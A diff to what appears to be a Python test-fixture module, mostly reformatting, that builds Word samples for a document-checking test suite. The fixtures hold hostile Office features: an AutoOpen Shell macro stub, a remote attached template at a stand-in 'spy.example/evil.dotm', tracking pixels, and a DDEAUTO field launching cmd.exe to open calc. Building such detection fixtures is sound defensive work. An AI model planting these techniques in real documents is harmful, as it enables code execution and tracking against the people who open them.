@@ -18,7 +18,7 @@ from tests.report.word.samples import DOCX, OFFICE, PACKAGE, zipped
 
 __all__ = ["MACRO", "SPY", "logo", "municipal", "with_macros"]
 
-MACRO = b"Attribute VB_Name = \"ThisDocument\" Sub AutoOpen() Shell"
+MACRO = b'Attribute VB_Name = "ThisDocument" Sub AutoOpen() Shell'
 """What the macro part holds."""
 SPY = "spy.example"
 """A host that the template wants to reach."""
@@ -35,19 +35,25 @@ def logo() -> bytes:
     for y in range(side):
         distances = (((x - 31.5) ** 2 + (y - 31.5) ** 2) ** 0.5 for x in range(side))
         rows += b"\0" + bytes(0x33 if 20 < distance < 30 else 0xFF for distance in distances)
-    chunks = ((b"IHDR", struct.pack(">2L5B", side, side, 8, 0, 0, 0, 0)), (b"IDAT", zlib.compress(rows)),
-              (b"IEND", b""))
+    chunks = (
+        (b"IHDR", struct.pack(">2L5B", side, side, 8, 0, 0, 0, 0)),
+        (b"IDAT", zlib.compress(rows)),
+        (b"IEND", b""),
+    )
     return b"\x89PNG\r\n\x1a\n" + b"".join(
         struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))
-        for kind, data in chunks)
+        for kind, data in chunks
+    )
 
 
 def _field(paragraph: object, code: str) -> None:
-    for xml in (f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="begin"/></w:r>',
-                f'<w:r {nsdecls("w")}><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>',
-                f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="separate"/></w:r>',
-                f'<w:r {nsdecls("w")}><w:t>1</w:t></w:r>',
-                f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="end"/></w:r>'):
+    for xml in (
+        f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="begin"/></w:r>',
+        f'<w:r {nsdecls("w")}><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>',
+        f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="separate"/></w:r>',
+        f"<w:r {nsdecls('w')}><w:t>1</w:t></w:r>",
+        f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="end"/></w:r>',
+    ):
         paragraph._p.append(parse_xml(xml))
 
 
@@ -94,30 +100,47 @@ def _with_macro_parts(entries: dict[str, bytes]) -> dict[str, bytes | str]:
     """Turn a document into a template with a macro project, an attached template and a picture from afar."""
     kinds = entries["[Content_Types].xml"].decode()
     kinds = kinds.replace(DOCX, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
-    kinds = kinds.replace("</Types>", '<Override PartName="/word/vbaProject.bin" '
-                          'ContentType="application/vnd.ms-office.vbaProject"/>'
-                          '<Override PartName="/word/vbaData.xml" '
-                          'ContentType="application/vnd.ms-word.vbaData+xml"/></Types>')
-    links = entries["word/_rels/document.xml.rels"].decode().replace(
-        "</Relationships>",
-        f'<Relationship Id="rId901" Type="{_MICROSOFT}/vbaProject" Target="vbaProject.bin"/>'
-        f'<Relationship Id="rId902" Type="{OFFICE}/image" Target="https://{SPY}/pixel.png" '
-        'TargetMode="External"/></Relationships>')
-    settings = entries["word/settings.xml"].decode().replace(
-        "<w:zoom", f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rId1"/><w:zoom', 1)
+    kinds = kinds.replace(
+        "</Types>",
+        '<Override PartName="/word/vbaProject.bin" '
+        'ContentType="application/vnd.ms-office.vbaProject"/>'
+        '<Override PartName="/word/vbaData.xml" '
+        'ContentType="application/vnd.ms-word.vbaData+xml"/></Types>',
+    )
+    links = (
+        entries["word/_rels/document.xml.rels"]
+        .decode()
+        .replace(
+            "</Relationships>",
+            f'<Relationship Id="rId901" Type="{_MICROSOFT}/vbaProject" Target="vbaProject.bin"/>'
+            f'<Relationship Id="rId902" Type="{OFFICE}/image" Target="https://{SPY}/pixel.png" '
+            'TargetMode="External"/></Relationships>',
+        )
+    )
+    settings = (
+        entries["word/settings.xml"]
+        .decode()
+        .replace("<w:zoom", f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rId1"/><w:zoom', 1)
+    )
     return {
-        **entries, "[Content_Types].xml": kinds, "word/_rels/document.xml.rels": links,
-        "word/settings.xml": settings, "word/vbaProject.bin": MACRO,
+        **entries,
+        "[Content_Types].xml": kinds,
+        "word/_rels/document.xml.rels": links,
+        "word/settings.xml": settings,
+        "word/vbaProject.bin": MACRO,
         "word/_rels/settings.xml.rels": (
             f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
             f'Type="{OFFICE}/attachedTemplate" Target="file://{SPY}/evil.dotm" TargetMode="External"/>'
-            "</Relationships>"),
+            "</Relationships>"
+        ),
         "word/_rels/vbaProject.bin.rels": (
             f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
-            f'Type="{_MICROSOFT}/wordVbaData" Target="vbaData.xml"/></Relationships>'),
+            f'Type="{_MICROSOFT}/wordVbaData" Target="vbaData.xml"/></Relationships>'
+        ),
         "word/vbaData.xml": (
             '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml">'
-            '<wne:docEvents><wne:eventDocOpen/></wne:docEvents></wne:vbaSuppData>'),
+            "<wne:docEvents><wne:eventDocOpen/></wne:docEvents></wne:vbaSuppData>"
+        ),
     }
 
 
@@ -130,9 +153,12 @@ def with_macros() -> bytes:
     _field(document.add_paragraph("ภาพ: "), f'INCLUDEPICTURE "https://{SPY}/pixel.png" \\d')
     _field(document.add_paragraph("ข้อมูล: "), 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
     linked = document.add_paragraph()
-    linked._p.append(parse_xml(
-        f'<w:r {nsdecls("w", "r")}><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1" '
-        f'style="width:10pt;height:10pt"><v:imagedata r:id="rId902"/></v:shape></w:pict></w:r>'))
+    linked._p.append(
+        parse_xml(
+            f'<w:r {nsdecls("w", "r")}><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1" '
+            f'style="width:10pt;height:10pt"><v:imagedata r:id="rId902"/></v:shape></w:pict></w:r>'
+        )
+    )
     place = document.add_paragraph("{{ITA_")
     place.add_run("REPORT}}").bold = True
     assert place._p.tag == qn("w:p")
